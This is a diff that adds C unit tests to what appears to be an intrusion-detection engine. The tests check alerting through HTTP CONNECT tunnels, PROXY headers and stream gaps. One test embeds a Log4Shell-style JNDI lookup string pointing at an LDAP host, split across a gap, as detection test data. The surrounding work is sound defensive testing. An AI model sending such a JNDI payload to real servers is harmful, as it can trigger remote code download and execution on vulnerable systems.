@@ -382,6 +382,60 @@ static void a_first_line_in_single_bytes_is_still_recognised(void)
     CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
 }
 
+/* CONNECT, and in it a mail: each direction is read as what it is. */
+static void what_a_tunnel_carries_is_decoded(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER, "CONNECT mail.example:25 HTTP/1.1\r\nHost: mail.example:25\r\n\r\n");
+    give(&s, TO_CLIENT, "HTTP/1.1 200 OK\r\n\r\n220 mail.example ESMTP\r\n");
+    give(&s, TO_SERVER, "EHLO " ATTACK "\r\nMAIL FROM:<a@b>\r\n");
+    end(&s);
+    CU_ASSERT_EQUAL(count("\"event_type\":\"http\""), 1);
+    CU_ASSERT_EQUAL(count("\"event_type\":\"smtp\""), 1);
+    CU_ASSERT_EQUAL(count("\"field\":\"smtp.helo\""), 1);
+}
+
+static void a_proxy_header_is_passed_and_its_client_told(void)
+{
+    struct scene s;
+    struct addr told;
+    CU_ASSERT_FATAL(addr_parse(SPAN("203.0.113.50"), &told));
+    begin(&s, rules);
+    give(&s, TO_SERVER, "PROXY TCP4 203.0.113.50 192.0.2.4 5000 80\r\n" GET(ATTACK));
+    give(&s, TO_CLIENT, "HTTP/1.1 204 No Content\r\n\r\n");
+    CU_ASSERT(addr_equal(&s.conn.told_client, &told));
+    end(&s);
+    CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
+    CU_ASSERT_EQUAL(count("\"status\":204"), 2); /* in alert and http */
+}
+
+/* Headers in headers: the innermost are not told apart any more, but hide nothing. */
+static void tunnels_in_tunnels_hide_nothing(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    for (unsigned i = 0; i < 20; i++) {
+        give(&s, TO_SERVER, "PROXY TCP4 203.0.113.50 192.0.2.4 5000 80\r\n");
+    }
+    give(&s, TO_SERVER, GET(ATTACK));
+    end(&s);
+    CU_ASSERT_EQUAL(count(ALERT), 1);
+    CU_ASSERT_EQUAL(count("\"field\":\"tcp.payload\""), 1);
+}
+
+static void a_gap_in_a_tunnel_is_told_to_what_is_inside(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER, "PROXY TCP4 203.0.113.50 192.0.2.4 5000 80\r\nGET /${jndi:ld");
+    s.user.ops->gap(s.user.ctx, &s.conn, TO_SERVER, 3, LOST_GAP);
+    give(&s, TO_SERVER, "ap://203.0.113.9/b} HTTP/1.1\r\nHost: a\r\n\r\n" GET(ATTACK));
+    end(&s);
+    CU_ASSERT_EQUAL(count(ALERT), 1);
+    CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
+}
+
 /* Every allocation fails once: nothing leaks, nothing crashes, every event is whole or not there.
  */
 static void an_empty_heap_costs_events_only(void)
@@ -413,6 +467,10 @@ static CU_TestInfo tests[] = {
     {"the_contents_decide_who_is_the_server", the_contents_decide_who_is_the_server},
     {"a_first_line_in_single_bytes_is_still_recognised",
      a_first_line_in_single_bytes_is_still_recognised},
+    {"what_a_tunnel_carries_is_decoded", what_a_tunnel_carries_is_decoded},
+    {"a_proxy_header_is_passed_and_its_client_told", a_proxy_header_is_passed_and_its_client_told},
+    {"tunnels_in_tunnels_hide_nothing", tunnels_in_tunnels_hide_nothing},
+    {"a_gap_in_a_tunnel_is_told_to_what_is_inside", a_gap_in_a_tunnel_is_told_to_what_is_inside},
     {"an_empty_heap_costs_events_only", an_empty_heap_costs_events_only},
     CU_TEST_INFO_NULL,
 };
